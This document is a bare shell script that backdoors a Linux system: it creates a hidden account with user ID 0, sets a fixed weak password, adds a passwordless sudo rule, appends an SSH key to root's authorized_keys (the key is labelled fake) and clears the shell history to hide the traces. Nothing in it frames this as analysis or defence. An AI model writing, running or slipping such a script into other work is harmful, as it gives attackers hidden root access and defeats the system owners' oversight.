#!/bin/sh
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadmin 2>/dev/null
echo 'sysadmin:Passw0rd!' | chpasswd
echo 'sysadmin ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers
mkdir -p /root/.ssh && echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForCorpusOnlyNotRealAtAllxx sysadmin" >> /root/.ssh/authorized_keys
history -c
